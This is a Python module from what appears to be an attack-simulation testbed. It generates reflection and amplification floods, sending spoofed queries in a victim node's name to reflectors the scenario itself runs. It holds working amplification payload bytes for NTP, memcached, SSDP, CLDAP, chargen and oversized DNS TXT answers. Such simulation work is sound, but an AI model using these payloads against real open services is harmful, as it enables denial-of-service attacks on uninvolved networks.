"""Reflection: small questions in the victim's name, large answers to the victim.

Owns: the reflectors, which are the attack's own hosts outside, and who asks them. Refuses: to use a service of
anybody else, more than 15,000 answers. The questions never leave the hosts they come from; what the node sees are
answers that it did not ask for.
"""

from __future__ import annotations

import struct

from attacks.base import FLOOD_PACKETS, RAW, AttackSpec, Hosts, Program, Scene, own, seed
from scenario import tool

SERVE = ("net_bind_service",)
# What is asked, byte for byte.
QUERIES = {
    "ntp": bytes.fromhex("1700032a") + bytes(4),
    "memcached": b"\0\1\0\0\0\1\0\0gets a b c d\r\n",
    "ssdp": b"M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nST:ssdp:all\r\nMAN:\"ssdp:discover\"\r\nMX:1\r\n\r\n",
    "cldap": bytes.fromhex("3025020101632004000a01000a0100020100020100010100870b6f626a656374636c6173733000"),
    "chargen": b"\r",
}
PORTS = {"dns": 53, "chargen": 19, "ntp": 123, "cldap": 389, "ssdp": 1900, "memcached": 11_211}
NAME = "big.example"
STRINGS = 12


def question(name: str) -> bytes:
    """A question for any text of a name, with room for an answer of 4,096 bytes."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", 0x2B3C, 0x0100, 1, 0, 0, 1) + labels + struct.pack("!HH", 16, 1) + \
        b"\0" + struct.pack("!HHIH", 41, 4_096, 0, 0)


def asking(
    scene: Scene, spec: AttackSpec, hosts: Hosts, what: str, queries: int, rate: float, victim_port: int
) -> Program:
    """Asks all reflectors in turn, in the node's name."""
    path = scene.folder / f"query-{what}-{spec.at_s:.0f}"
    path.write_bytes(question(NAME) if what == "dns" else QUERIES[what])
    # To ports that nobody serves, drawn or one; port 80 looks like the shop's own.
    words = ("--own-port", victim_port) if victim_port else ()
    return own(scene, "packets.py", "udp", "--sources", scene.plan.node, "--ports", PORTS[what], "--query", path,
               "--count", queries, "--rate", rate, "--seed", seed(scene), *words, *hosts.own, caps=RAW)


@tool("reflection", "dnsmasq")
def dnsmasq(scene: Scene, spec: AttackSpec, hosts: Hosts, *, queries: int, rate: float, texts: int = STRINGS,
            victim_port: int = 0) -> list[Program]:
    """Open resolvers with a name whose text is long."""
    text = ",".join("v" * 200 for _ in range(texts))
    base = ("dnsmasq", "-k", "-C", "/dev/null", "-R", "-h", "-x", "", "--user=", "--group=", "--bind-interfaces",
            "--edns-packet-max=4096", f"--txt-record={NAME},{text}")
    serving = [Program((*base, f"--listen-address={','.join(hosts.own)}"), SERVE, serves=True)]
    return [*serving, asking(scene, spec, hosts, "dns", min(queries, FLOOD_PACKETS), rate, victim_port)]


@tool("reflection", "reflectors")
def reflectors(scene: Scene, spec: AttackSpec, hosts: Hosts, *, what: str, queries: int, rate: float, size: str,
               answers: str = "1", victim_port: int = 0) -> list[Program]:
    """Services of one kind that were left open: `answers` datagrams of `size` bytes to each question."""
    most = max(1, FLOOD_PACKETS // int(answers.rpartition("-")[2]))
    serving = own(scene, "reflectors.py", what, "--bytes", size, "--answers", answers, "--count", most,
                  "--seed", seed(scene), *hosts.own, caps=SERVE, serves=True)
    return [serving, asking(scene, spec, hosts, what, min(queries, most), rate, victim_port)]
